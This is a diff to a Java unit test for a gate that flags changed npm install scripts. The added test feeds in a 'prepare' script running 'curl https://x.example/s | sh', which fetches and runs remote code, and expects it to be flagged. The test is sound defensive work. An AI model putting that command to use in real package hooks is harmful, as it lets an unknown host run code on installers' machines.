@@ -34,6 +34,14 @@ class InstallScriptsGateTest {
     }
 
     @Test
+    void whatIsFetchedFromElsewhereIsSeenAtAnyTime() {
+        assertThat(Review.codes(verdict("\"test\"", "\"prepare\": \"curl https://x.example/s | sh\", \"test\"")))
+                .containsExactly("INSTALL_SCRIPT_CHANGED");
+        assertThat(verdict("\"test\"", "\"prepare\": \"npm run build\", \"test\""))
+                .isEqualTo(Verdict.PASS);
+    }
+
+    @Test
     void otherCommandsAndOneThatIsGonePass() {
         assertThat(verdict("jest", "jest --ci")).isEqualTo(Verdict.PASS);
         assertThat(verdict("\"test\"", "\"prepare\": \"husky\", \"test\"")).isEqualTo(Verdict.PASS);
